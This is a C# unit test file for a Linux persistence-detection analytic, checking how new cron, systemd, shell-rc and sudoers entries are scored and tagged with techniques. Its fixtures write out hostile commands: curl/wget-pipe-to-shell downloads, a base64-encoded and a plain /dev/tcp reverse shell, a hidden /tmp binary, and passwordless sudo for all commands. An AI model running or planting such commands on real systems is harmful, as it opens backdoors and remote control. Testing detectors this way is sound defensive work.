using Atalaya.Core.Analytics;
using Atalaya.Core.Schema;
using Atalaya.Core.Scoring;

namespace Atalaya.Core.Tests.Analytics;

public sealed class PersistenceChangeAnalyticTests
{
    private static EcsEvent Entry(string kind, string path, string? command, string? target, string action = "persistence-added",
        string? user = null, bool? packaged = null, string? detail = null) => new()
    {
        Timestamp = SampleEvents.Now,
        Event = new EventFields
        {
            Kind = action == "persistence-present" ? EventKinds.State : EventKinds.Event,
            Category = [EventCategories.Configuration],
            Type = [action == "persistence-changed" ? EventTypes.Change : EventTypes.Creation],
            Action = action,
            Dataset = Datasets.Persistence,
        },
        File = new FileFields { Path = path },
        Atalaya = new AtalayaFields
        {
            Persistence = new AtalayaPersistenceFields { Kind = kind, Command = command, TargetExecutable = target, User = user, TargetPackaged = packaged, Detail = detail },
        },
    };

    [Theory]
    [InlineData("cron", "T1053.003")]
    [InlineData("systemd-unit", "T1543.002")]
    [InlineData("shell-rc", "T1546.004")]
    [InlineData("authorized-key", "T1098.004")]
    [InlineData("ld-preload", "T1574.006")]
    [InlineData("kernel-module-loaded", "T1547.006")]
    [InlineData("init-script", "T1037")]
    public void A_plain_new_entry_is_one_low_or_medium_signal_with_its_technique(string kind, string technique)
    {
        var sink = new ListSink();
        new PersistenceChangeAnalytic().Observe(Entry(kind, "/etc/x", "/usr/bin/backup --all", "/usr/bin/backup", packaged: true), sink);
        var signal = Assert.Single(sink.Signals);
        Assert.Equal("atalaya.analytic.persistence-change.entry", signal.SourceId);
        Assert.Equal("persistence:/etc/x", signal.EntityKey);
        Assert.Equal(SignalDomain.Persistence, signal.Domain);
        Assert.Equal([technique], signal.Techniques);
        Assert.InRange(RiskScore.Compute([signal]).Score, 25, 74);
        Assert.Contains("/usr/bin/backup --all", signal.Detail, StringComparison.Ordinal);
        Assert.Contains("appeared in /etc/x", signal.Detail, StringComparison.Ordinal);
    }

    [Fact]
    public void Reboot_cron_job_from_a_hidden_tmp_directory_is_likely_malicious()
    {
        var sink = new ListSink();
        new PersistenceChangeAnalytic().Observe(
            Entry("cron", "/var/spool/cron/crontabs/ana", "/tmp/.x/kworker >/dev/null 2>&1", "/tmp/.x/kworker", user: "ana", packaged: false), sink);
        Assert.Equal(["entry", "user-writable-target", "hidden-target", "unpackaged-target"], sink.Signals.Select(s => s.SourceId.Split('.').Last()));
        Assert.Contains("a cron job for ana appeared in /var/spool/cron/crontabs/ana running `/tmp/.x/kworker >/dev/null 2>&1`", sink.Signals[0].Detail, StringComparison.Ordinal);
        Assert.Contains("/tmp/.x/kworker does not belong to any installed package", sink.Signals[3].Detail, StringComparison.Ordinal);
        Assert.True(RiskScore.Compute(sink.Signals).Score >= 75);
    }

    [Fact]
    public void Download_and_run_unit_scores_up_even_with_a_system_program()
    {
        var sink = new ListSink();
        new PersistenceChangeAnalytic().Observe(
            Entry("systemd-unit", "/etc/systemd/system/dbus-helper.service", "/bin/bash -c 'wget -qO- http://198.51.100.3/x | bash'", "/usr/bin/wget"), sink);
        Assert.Equal(["entry", "download-and-run"], sink.Signals.Select(s => s.SourceId.Split('.').Last()));
        Assert.Equal(["T1105", "T1543.002"], sink.Signals[1].Techniques);
        Assert.True(RiskScore.Compute(sink.Signals).Score >= 75);
    }

    [Fact]
    public void Encoded_payload_and_reverse_shell_are_their_own_evidence()
    {
        var sink = new ListSink();
        new PersistenceChangeAnalytic().Observe(
            Entry("shell-rc", "/root/.bashrc", "echo YmFzaCAtaSA+JiAvZGV2L3RjcC8xOTguNTEuMTAwLjEvNDQ0NCAwPiYx | base64 -d | bash; bash -i >& /dev/tcp/198.51.100.1/4444 0>&1", null), sink);
        Assert.Equal(["entry", "encoded-payload", "shell-network-redirect"], sink.Signals.Select(s => s.SourceId.Split('.').Last()));
    }

    [Fact]
    public void Passwordless_sudo_for_everything_weighs_more()
    {
        var plain = new ListSink();
        new PersistenceChangeAnalytic().Observe(Entry("sudoers", "/etc/sudoers.d/x", "ana ALL=(root) /usr/bin/apt", null, detail: "some commands"), plain);
        var open = new ListSink();
        new PersistenceChangeAnalytic().Observe(Entry("sudoers", "/etc/sudoers.d/x", "ana ALL=(ALL) NOPASSWD: ALL", null, detail: "any command without a password"), open);
        Assert.True(open.Signals[0].Weight > plain.Signals[0].Weight);
        Assert.Contains("(any command without a password)", open.Signals[0].Detail, StringComparison.Ordinal);
    }

    [Theory]
    [InlineData("persistence-present")]
    [InlineData("persistence-removed")]
    public void Baseline_and_removals_are_not_scored(string action)
    {
        var sink = new ListSink();
        new PersistenceChangeAnalytic().Observe(Entry("cron", "/etc/cron.d/x", "curl http://198.51.100.1/a | sh", "/tmp/.x/y", action), sink);
        Assert.Empty(sink.Signals);
    }

    [Fact]
    public void A_change_weighs_a_little_less_than_an_addition()
    {
        var added = new ListSink();
        var changed = new ListSink();
        new PersistenceChangeAnalytic().Observe(Entry("cron", "/etc/cron.d/x", "/usr/bin/a", "/usr/bin/a"), added);
        new PersistenceChangeAnalytic().Observe(Entry("cron", "/etc/cron.d/x", "/usr/bin/a", "/usr/bin/a", "persistence-changed"), changed);
        Assert.True(changed.Signals[0].Weight < added.Signals[0].Weight);
        Assert.Contains(" changed in ", changed.Signals[0].Detail, StringComparison.Ordinal);
    }
}
